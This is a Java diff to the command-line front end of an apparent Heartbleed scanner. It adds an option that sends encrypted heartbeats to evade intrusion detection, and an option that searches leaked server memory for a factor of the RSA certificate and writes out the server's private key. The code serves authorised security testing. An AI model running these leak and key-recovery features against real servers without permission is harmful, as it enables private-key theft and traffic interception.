@@ -1,6 +1,8 @@
 package io.heartguard.scan.cli;
 
 import io.heartguard.evidence.LeakFile;
+import io.heartguard.keys.KeyRecovery;
+import io.heartguard.scan.DumpSummary;
 import io.heartguard.scan.HeartbleedCheck;
 import io.heartguard.scan.ScanOptions;
 import io.heartguard.scan.ScanResult;
@@ -12,9 +14,11 @@ import io.heartguard.wire.record.ProtocolVersion;
 import java.io.IOException;
 import java.io.PrintWriter;
 import java.nio.file.Path;
+import java.security.interfaces.RSAPublicKey;
 import java.time.Duration;
 import java.util.List;
 import java.util.concurrent.Callable;
+import java.util.concurrent.atomic.AtomicReference;
 import picocli.CommandLine;
 import picocli.CommandLine.Command;
 import picocli.CommandLine.Mixin;
@@ -67,6 +71,11 @@ public final class ScanCommand implements Callable<Integer> {
       + " s_server's (docs/DTLS.md)"})
   private boolean dtls;
 
+  @Option(names = "--after-handshake", description = {"complete a full handshake (TLS 1.0 to 1.2, RSA or ECDHE-RSA,"
+      + " AES-CBC or AES-GCM) and send the two heartbeats encrypted inside it, as attackers did once IDSs read"
+      + " plaintext heartbeats; finds servers that ignore heartbeats before the handshake (docs/AFTER-HANDSHAKE.md)"})
+  private boolean afterHandshake;
+
   @Mixin
   private RunOptions run = new RunOptions();
 
@@ -74,6 +83,11 @@ public final class ScanCommand implements Callable<Integer> {
       description = "AUTHORIZED TESTING ONLY: on a vulnerable target, send --dump-requests requests that each leak"
           + " about 16 KB and write the leaked bytes to FILE (mode 600); only a summary is printed. One target only.")
   private Path dump;
+
+  @Option(names = "--recover-key", paramLabel = "KEY.pem",
+      description = "AUTHORIZED TESTING ONLY, with --dump: then search the dump for a prime factor of the server's"
+          + " certificate and write the private key to KEY.pem (mode 600), as heartguard keys does (docs/KEYS.md)")
+  private Path recoverKey;
 
   @Option(names = "--dump-requests", paramLabel = "N", description = "full-size requests a dump sends (default: 4)")
   private int dumpRequests = ScanOptions.DEFAULT_DUMP_REQUESTS;
@@ -98,6 +112,9 @@ public final class ScanCommand implements Callable<Integer> {
       // Checked before the dump file is created; ScanRun checks again once a block's size is known.
       throw new ParameterException(spec.commandLine(), "--dump takes exactly one target, got " + given);
     }
+    if (recoverKey != null && (dump == null || dtls)) {
+      throw new ParameterException(spec.commandLine(), "--recover-key searches the --dump file; give --dump FILE");
+    }
     if (json && run.csv) {
       throw new ParameterException(spec.commandLine(), "--json and --csv exclude each other; choose one");
     }
@@ -105,27 +122,58 @@ public final class ScanCommand implements Callable<Integer> {
       throw new ParameterException(spec.commandLine(), "--dtls takes no " + (starttls != StartTlsMode.NONE ? "--starttls"
           : dump != null ? "--dump" : "--version-only SSLv3 (DTLS has no SSLv3)"));
     }
+    if (afterHandshake && (dtls || dump != null || ProtocolVersion.SSL3_0.equals(versionOnly))) {
+      throw new ParameterException(spec.commandLine(), "--after-handshake takes no " + (dtls ? "--dtls"
+          : dump != null ? "--dump (a dump runs before the handshake)" : "--version-only SSLv3 (a full handshake is TLS 1.0 to 1.2)"));
+    }
     if (dtls && targets.ports == null && run.resume == null) {
       targets.ports = String.valueOf(DtlsCheck.DEFAULT_PORT);
     }
     Scanner scanner = dtls ? new DtlsCheck() : new HeartbleedCheck();
     ScanOptions options = ScanOptions.defaults().withTimeout(timeout)
         .withConnectTimeout(connectTimeout.compareTo(timeout) > 0 ? timeout : connectTimeout)
-        .withVersions(versionOnly == null ? ScanOptions.ALL_VERSIONS : List.of(versionOnly))
-        .withStartTls(starttls);
+        .withVersions(versionOnly != null ? List.of(versionOnly)
+            : afterHandshake ? ScanOptions.ALL_VERSIONS.subList(0, 3) : ScanOptions.ALL_VERSIONS)
+        .withStartTls(starttls)
+        .withAfterHandshake(afterHandshake);
     LeakFile leakFile = openDump();
     if (leakFile != null) {
       options = options.withDump((target, leaked, offset, length) -> leakFile.write(leaked, offset, length),
           dumpRequests);
     }
     PrintWriter out = spec.commandLine().getOut();
-    ScanRun.Report report = (order, size) -> json ? JsonSink.to(out) : run.csv ? new CsvReport(out)
-        : TableReport.forTargets(out, order, debug, size);
+    AtomicReference<ScanResult> dumped = new AtomicReference<>();
+    ScanRun.Report report = (order, size) -> {
+      ResultSink shown = json ? JsonSink.to(out) : run.csv ? new CsvReport(out)
+          : TableReport.forTargets(out, order, debug, size);
+      return recoverKey == null ? shown : ResultSink.all(List.of(shown, dumped::set));
+    };
+    int exit;
     try (leakFile) {
       // Many targets: the target space, the engine, --db and the progress line live in ScanRun.
-      return new ScanRun(spec.commandLine()).execute(targets, run, starttls, protocolName(), options, scanner,
+      exit = new ScanRun(spec.commandLine()).execute(targets, run, starttls, protocolName(), options, scanner,
           dump != null, report, System.in);
     }
+    if (recoverKey != null) {
+      recoverKey(dumped.get());
+    }
+    return exit;
+  }
+
+  /** {@code --recover-key}: the dump just written, searched for a factor of the certificate the server sent. */
+  private void recoverKey(ScanResult result) throws IOException {
+    PrintWriter err = spec.commandLine().getErr();
+    if (result == null || result.dump() == null || result.dump().bytes() == 0) {
+      err.println("scan: --recover-key: nothing was dumped, so there is nothing to search");
+    } else if (result.certificate() == null || !(result.certificate().publicKey() instanceof RSAPublicKey rsa)) {
+      err.println("scan: --recover-key: the server sent no RSA certificate, so there is no modulus to factor");
+    } else {
+      DumpSummary summary = result.dump();
+      long perRequest = summary.responses() > 0 && summary.bytes() % summary.responses() == 0
+          ? summary.bytes() / summary.responses() : 0;
+      err.println("scan: " + KeyRecovery.recover(rsa, List.of(dump), recoverKey).describe(perRequest));
+    }
+    err.flush();
   }
 
   /** How targets are reached, as a job keeps it: tls, dtls, auto or the STARTTLS protocol's name. */
